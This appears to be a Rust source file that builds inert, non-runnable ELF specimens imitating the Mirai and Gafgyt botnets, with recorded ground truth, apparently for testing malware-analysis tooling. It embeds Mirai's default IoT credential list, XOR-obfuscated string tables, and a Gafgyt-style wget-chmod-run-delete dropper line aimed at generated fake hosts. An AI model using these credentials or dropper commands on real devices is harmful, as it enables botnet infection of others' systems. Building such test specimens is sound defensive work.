//! Inert programs that carry what bots carry, for the processors that bots are built for.
//!
//! Laid out as the linker lays out a statically linked bot: code, then read-only strings,
//! in one segment. The code only loads addresses, as the compilers do for the calls that
//! fill the list of log-ins; it begins with an illegal instruction, so that nothing can run.

/// Processors, with their order of bytes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Machine {
    X86,
    X86_64,
    Arm,
    Mips,
    Mipsel,
    PowerPc,
    Sh4,
    Sparc,
    M68k,
}

pub(crate) const MACHINES: [Machine; 9] = [
    Machine::X86,
    Machine::X86_64,
    Machine::Arm,
    Machine::Mips,
    Machine::Mipsel,
    Machine::PowerPc,
    Machine::Sh4,
    Machine::Sparc,
    Machine::M68k,
];

impl Machine {
    const fn number(self) -> u16 {
        match self {
            Self::X86 => 3,
            Self::X86_64 => 62,
            Self::Arm => 40,
            Self::Mips | Self::Mipsel => 8,
            Self::PowerPc => 20,
            Self::Sh4 => 42,
            Self::Sparc => 2,
            Self::M68k => 4,
        }
    }

    const fn is_little(self) -> bool {
        matches!(self, Self::X86 | Self::X86_64 | Self::Arm | Self::Mipsel | Self::Sh4)
    }

    /// Strings begin at multiples of this.
    const fn alignment(self) -> usize {
        match self {
            Self::X86 | Self::X86_64 | Self::M68k => 1,
            _ => 4,
        }
    }
}

/// What is in a specimen.
pub(crate) struct Truth {
    pub(crate) bytes: Vec<u8>,
    pub(crate) family: &'static str,
    /// Command server and, for Mirai, the receiver of reports.
    pub(crate) hosts: Vec<(String, u16)>,
    pub(crate) urls: Vec<String>,
    pub(crate) logins: Vec<(String, String)>,
    /// How often each of them is chosen beside the others.
    pub(crate) weights: Vec<u16>,
    pub(crate) table_key: u8,
    pub(crate) login_key: u8,
}

/// Numbers without structure, the same for the same seed.
pub(crate) struct Lots(pub(crate) u64);

impl Lots {
    pub(crate) fn next(&mut self) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 29) as u32
    }

    pub(crate) fn below(&mut self, end: usize) -> usize {
        self.next() as usize % end
    }

    pub(crate) fn pick<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.below(list.len())]
    }

    fn word(&mut self, shortest: usize) -> String {
        let length = shortest + self.below(9);
        (0..length).map(|_| char::from(b'a' + self.below(26) as u8)).collect()
    }

    fn host(&mut self) -> String {
        if self.below(10) < 4 {
            let first = [5, 31, 45, 77, 93, 104, 141, 185, 193, 209][self.below(10)];
            return format!(
                "{first}.{}.{}.{}",
                self.below(256),
                self.below(256),
                1 + self.below(254)
            );
        }
        let top = self.pick(&[
            "com", "net", "xyz", "top", "ru", "cc", "pw", "club", "info", "su", "co", "me",
        ]);
        match self.below(3) {
            0 => format!("{}.{top}", self.word(5)),
            1 => {
                format!("{}.{}.{top}", self.pick(&["cnc", "bot", "c", "net", "gate"]), self.word(5))
            }
            _ => format!("{}-{}.{top}", self.word(3), self.word(3)),
        }
    }

    fn port(&mut self) -> u16 {
        match self.below(4) {
            0 => [23, 48101, 666, 1791, 9999, 443][self.below(6)],
            _ => (self.next() as u16).max(1),
        }
    }

    fn key(&mut self) -> u8 {
        loop {
            let key = self.next().to_le_bytes().iter().fold(0, |sum, byte| sum ^ byte);
            if key != 0 {
                return key;
            }
        }
    }

    fn noise(&mut self, length: usize) -> Vec<u8> {
        (0..length).map(|_| self.next() as u8).collect()
    }
}

/// Strings of Mirai's table after the hosts.
const TABLE: &[&str] = &[
    "/proc/",
    "/exe",
    " (deleted)",
    "/fd",
    ".anime",
    "/status",
    "REPORT %s:%s",
    "HTTPFLOOD",
    "LOLNOGTFO",
    "shell",
    "enable",
    "system",
    "sh",
    "/bin/busybox MIRAI",
    "MIRAI: applet not found",
    "ncorrect",
    "/bin/busybox ps",
    "/bin/busybox kill -9 ",
    "TSource Engine Query",
    "/etc/resolv.conf",
    "nameserver ",
    "Connection: keep-alive",
    "Accept-Language: en-US,en;q=0.8",
    "setCookie('",
    "refresh:",
    "location:",
    "set-cookie:",
    "content-length:",
    "transfer-encoding:",
    "chunked",
    "keep-alive",
    "connection:",
    "server: dosarrest",
    "server: cloudflare-nginx",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "listening tun0",
    "/dev/watchdog",
    "/dev/misc/watchdog",
    "assword",
    "ogin",
    "enter",
];

const USERS: &[&str] = &["root", "admin", "support", "user", "guest", "ubnt", "service", "tech"];
const PASSWORDS: &[&str] = &[
    "xc3511",
    "vizxv",
    "admin",
    "888888",
    "xmhdipc",
    "default",
    "juantech",
    "123456",
    "54321",
    "support",
    "password",
    "12345",
    "user",
    "pass",
    "admin1234",
    "1111",
    "666666",
    "1234",
    "klv123",
    "service",
    "guest",
    "ubnt",
    "klv1234",
    "Zte521",
    "hi3518",
    "jvbzd",
    "anko",
    "zlxx.",
    "7ujMko0vizxv",
    "7ujMko0admin",
    "system",
    "ikwb",
    "dreambox",
    "realtek",
    "00000000",
];

/// What is in programs and is contacted by nobody.
const DECOYS: &[&str] = &[
    "/bin/sh",
    "/dev/null",
    "libc.so.6",
    "GCC: (GNU) 4.1.2",
    "uClibc 0.9.30.1",
    "1.2.3",
    "http://www.w3.org/1999/xhtml",
    "https://www.gnu.org/licenses/",
    "%d.%d.%d.%d",
    "index.html",
    "main.c",
    "attack_udp.c",
    "0.0.0.0",
    "127.0.0.1",
    "255.255.255.0",
    "(null)",
    "Operation not permitted",
    "Mozilla/4.0 (compatible; MSIE 8.0)",
    "Chrome/41.0.2228.0",
    "ld-uClibc.so.0",
    "vfprintf.c",
    "abcdefghijklmnopqrstuvwxyz0123456789",
    "POST /cdn-cgi/",
    "node.name",
    "x.y",
];

/// A Mirai-like program.
pub(crate) fn mirai(machine: Machine, seed: u64) -> Truth {
    let mut lots = Lots(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let table_key = lots.key();
    let login_key = if lots.below(2) == 0 { table_key } else { lots.key() };
    let hosts = vec![(lots.host(), lots.port()), (lots.host(), lots.port())];
    let mut data = Data::new(machine);
    for _ in 0..lots.below(8) {
        data.plain(lots.pick(DECOYS));
    }
    let mut logins = Vec::new();
    while logins.len() < 10 + lots.below(50) {
        let pair = (lots.pick(USERS).to_owned(), lots.pick(PASSWORDS).to_owned());
        if !logins.contains(&pair) {
            logins.push(pair);
        }
    }
    let weights: Vec<u16> = logins.iter().map(|_| 1 + lots.below(20) as u16).collect();
    let mut loads = Vec::new();
    for ((user, password), weight) in logins.iter().zip(&weights) {
        let user = data.shared(&hidden(user, login_key, false));
        let password = data.shared(&hidden(password, login_key, false));
        loads.push((user, password, *weight as u8));
    }
    for _ in 0..lots.below(8) {
        data.plain(lots.pick(DECOYS));
    }
    for (host, port) in &hosts {
        data.string(&hidden(host, table_key, true));
        data.string(&port.to_be_bytes().map(|byte| byte ^ table_key));
    }
    // As many strings of the table as a smaller or larger child has.
    for text in &TABLE[lots.below(8)..TABLE.len() - lots.below(10)] {
        data.shared(&hidden(text, table_key, true));
    }
    let mut urls = Vec::new();
    if lots.below(2) == 0 {
        let url =
            format!("http://{}/{}", lots.host(), lots.pick(&["bins.sh", "mirai.arm7", "x/y"]));
        data.plain(&url);
        urls.push(url);
    }
    for _ in 0..lots.below(20) {
        data.plain(lots.pick(DECOYS));
    }
    let bytes = program(machine, &loads, data, &mut lots);
    Truth { bytes, family: "mirai", hosts, urls, logins, weights, table_key, login_key }
}

/// A Gafgyt-like program.
pub(crate) fn gafgyt(machine: Machine, seed: u64) -> Truth {
    let mut lots = Lots(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let hosts = vec![(lots.host(), lots.port())];
    let mut data = Data::new(machine);
    for _ in 0..lots.below(8) {
        data.plain(lots.pick(DECOYS));
    }
    data.plain(&format!("{}:{}", hosts[0].0, hosts[0].1));
    for text in USERS.iter().chain(&PASSWORDS[..20]) {
        data.plain(text);
    }
    for text in [
        "PING",
        "PONG!",
        "GETLOCALIP",
        "My IP: %s",
        "SCANNER ON | OFF",
        "HOLD",
        "JUNK",
        "UDP",
        "TCP",
        "KILLATTK",
        "Killed %d.",
        "None Killed.",
        "LOLNOGTFO",
        "REPORT %s:%s:%s",
        "BUILD MIPS",
    ] {
        if lots.below(5) > 0 {
            data.plain(text);
        }
    }
    let url =
        format!("http://{}/{}", lots.host(), lots.pick(&["gtop.sh", "bins.sh", "jackmy/mips"]));
    data.plain(&format!("cd /tmp || cd /var/run; wget {url}; chmod 777 *; sh x; rm -rf *"));
    for _ in 0..lots.below(20) {
        data.plain(lots.pick(DECOYS));
    }
    let bytes = program(machine, &[], data, &mut lots);
    Truth {
        bytes,
        family: "gafgyt",
        hosts,
        urls: vec![url],
        logins: Vec::new(),
        weights: Vec::new(),
        table_key: 0,
        login_key: 0,
    }
}

fn hidden(text: &str, key: u8, with_nul: bool) -> Vec<u8> {
    let nul = with_nul.then_some(0);
    text.bytes().chain(nul).map(|byte| byte ^ key).collect()
}

/// Read-only strings, equal ones once.
struct Data {
    machine: Machine,
    bytes: Vec<u8>,
    known: Vec<(Vec<u8>, u32)>,
}

impl Data {
    fn new(machine: Machine) -> Self {
        Self { machine, bytes: Vec::new(), known: Vec::new() }
    }

    fn string(&mut self, content: &[u8]) -> u32 {
        let at = self.bytes.len().next_multiple_of(self.machine.alignment());
        self.bytes.resize(at, 0);
        self.bytes.extend_from_slice(content);
        self.bytes.push(0);
        self.known.push((content.to_vec(), at as u32));
        at as u32
    }

    fn shared(&mut self, content: &[u8]) -> u32 {
        let known = self.known.iter().find(|(known, _)| known == content).map(|(_, at)| *at);
        known.unwrap_or_else(|| self.string(content))
    }

    fn plain(&mut self, text: &str) {
        self.shared(text.as_bytes());
    }
}

const BASE: u32 = 0x0040_0000;

fn program(machine: Machine, loads: &[(u32, u32, u8)], data: Data, lots: &mut Lots) -> Vec<u8> {
    let wide = machine == Machine::X86_64;
    let headers = if wide { 64 + 56 } else { 52 + 32 };
    // The code's length does not depend on the addresses in it.
    let length = code(machine, loads, 0, &mut Lots(7)).len();
    let data_at = (headers + length).next_multiple_of(16);
    let mut bytes = header(machine, (data_at + data.bytes.len()) as u32);
    bytes.extend(code(machine, loads, BASE + data_at as u32, lots));
    bytes.resize(data_at, 0);
    bytes.extend(data.bytes);
    bytes
}

/// An illegal instruction, noise, the loads, noise.
fn code(machine: Machine, loads: &[(u32, u32, u8)], data: u32, lots: &mut Lots) -> Vec<u8> {
    let mut out = Code { machine, bytes: Vec::new() };
    match machine {
        Machine::X86 | Machine::X86_64 => out.bytes.extend([0x0f, 0x0b, 0x90, 0x90]),
        Machine::M68k => out.bytes.extend([0x4a, 0xfc, 0x4a, 0xfc]),
        Machine::Sh4 => out.bytes.extend([0xfd, 0xff, 0xfd, 0xff]),
        _ => out.bytes.extend([0; 4]),
    }
    out.bytes.extend(lots.noise(256));
    for (chunk_at, chunk) in loads.chunks(16).enumerate() {
        // Pools of constants stand behind the code that uses them.
        let pool_at = out.bytes.len() + chunk.len() * out.call_bytes();
        let pool_at = pool_at.next_multiple_of(4);
        let mut pool: Vec<u32> = Vec::new();
        for (user, password, weight) in chunk {
            let arguments = (data + user, data + password, *weight);
            out.call(arguments, pool_at, &mut pool);
        }
        out.bytes.resize(pool_at, 0);
        for value in pool {
            out.word(value);
        }
        out.bytes.extend(lots.noise(16 * (1 + chunk_at % 3)));
    }
    out.bytes.extend(lots.noise(256));
    out.bytes
}

struct Code {
    machine: Machine,
    bytes: Vec<u8>,
}

impl Code {
    fn word(&mut self, value: u32) {
        let bytes =
            if self.machine.is_little() { value.to_le_bytes() } else { value.to_be_bytes() };
        self.bytes.extend(bytes);
    }

    fn half(&mut self, value: u16) {
        let bytes =
            if self.machine.is_little() { value.to_le_bytes() } else { value.to_be_bytes() };
        self.bytes.extend(bytes);
    }

    const fn call_bytes(&self) -> usize {
        match self.machine {
            Machine::X86 | Machine::X86_64 | Machine::M68k => 20,
            Machine::Arm => 16,
            Machine::Sh4 => 8,
            Machine::Mips | Machine::Mipsel | Machine::PowerPc | Machine::Sparc => 24,
        }
    }

    /// `add_auth_entry(user, password, weight)`.
    fn call(
        &mut self,
        (user, password, weight): (u32, u32, u8),
        pool_at: usize,
        pool: &mut Vec<u32>,
    ) {
        match self.machine {
            Machine::X86 => {
                // The last argument is pushed first.
                self.bytes.extend([0x83, 0xec, 0x04, 0x6a, weight, 0x68]);
                self.word(password);
                self.bytes.push(0x68);
                self.word(user);
                self.bytes.extend([0xe8, 1, 0, 0, 0]);
            }
            Machine::X86_64 => {
                self.bytes.push(0xba);
                self.word(weight.into());
                self.bytes.push(0xbe);
                self.word(password);
                self.bytes.push(0xbf);
                self.word(user);
                self.bytes.extend([0xe8, 1, 0, 0, 0]);
            }
            Machine::M68k => {
                self.bytes.extend([0x48, 0x78, 0, weight]);
                self.bytes.extend([0x48, 0x79]);
                self.word(password);
                self.bytes.extend([0x48, 0x79]);
                self.word(user);
                self.bytes.extend([0x61, 0, 0, 2]);
            }
            Machine::Arm => {
                for (register, value) in [(0, user), (1, password)] {
                    let at = self.bytes.len();
                    let offset = pool_at + 4 * pool.len() - (at + 8);
                    pool.push(value);
                    self.word(0xe59f_0000 | register << 12 | offset as u32);
                }
                self.word(0xe3a0_2000 | u32::from(weight));
                self.word(0xeb00_0001);
            }
            Machine::Sh4 => {
                for (register, value) in [(4, user), (5, password)] {
                    let from = (self.bytes.len() & !3) + 4;
                    let step = (pool_at + 4 * pool.len() - from) / 4;
                    pool.push(value);
                    self.half(0xd000 | register << 8 | step as u16);
                }
                self.half(0xe600 | u16::from(weight));
                self.half(0xb001);
            }
            Machine::Mips | Machine::Mipsel => {
                for (register, value) in [(4u32, user), (5, password)] {
                    let high = value.wrapping_add(0x8000) >> 16;
                    self.word(0x3c00_0000 | register << 16 | high);
                    self.word(0x2400_0000 | register << 21 | register << 16 | value & 0xffff);
                }
                self.word(0x0c00_0001);
                self.word(0x2406_0000 | u32::from(weight));
            }
            Machine::PowerPc => {
                for (register, value) in [(3u32, user), (4, password)] {
                    let high = value.wrapping_add(0x8000) >> 16;
                    self.word(15 << 26 | register << 21 | high);
                    self.word(14 << 26 | register << 21 | register << 16 | value & 0xffff);
                }
                self.word(0x38a0_0000 | u32::from(weight));
                self.word(0x4800_0001);
            }
            Machine::Sparc => {
                for (register, value) in [(8u32, user), (9, password)] {
                    self.word(register << 25 | 4 << 22 | value >> 10);
                    self.word(
                        2 << 30
                            | register << 25
                            | 2 << 19
                            | register << 14
                            | 1 << 13
                            | value & 0x3ff,
                    );
                }
                self.word(0x4000_0001);
                self.word(0x9410_2000 | u32::from(weight));
            }
        }
    }
}

/// The ELF header and one segment that is read and run.
fn header(machine: Machine, length: u32) -> Vec<u8> {
    let wide = machine == Machine::X86_64;
    let little = machine.is_little();
    let mut out = b"\x7fELF".to_vec();
    out.extend([1 + u8::from(wide), 2 - u8::from(little), 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let mut number = |value: u64, width: usize| {
        let all = value.to_be_bytes();
        let digits = &all[8 - width..];
        if little { out.extend(digits.iter().rev()) } else { out.extend(digits) }
    };
    let address = if wide { 8 } else { 4 };
    let (head, segment) = if wide { (64, 56) } else { (52, 32) };
    for (value, width) in [
        (2, 2),
        (u64::from(machine.number()), 2),
        (1, 4),
        (u64::from(BASE) + head + segment, address),
        (head, address),
        (0, address),
        (0, 4),
        (head, 2),
        (segment, 2),
        (1, 2),
        (0, 2),
        (0, 2),
        (0, 2),
    ] {
        number(value, width);
    }
    number(1, 4);
    if wide {
        number(5, 4);
    }
    for value in [0, u64::from(BASE), u64::from(BASE), u64::from(length), u64::from(length)] {
        number(value, address);
    }
    if !wide {
        number(5, 4);
    }
    number(0x1000, address);
    out
}
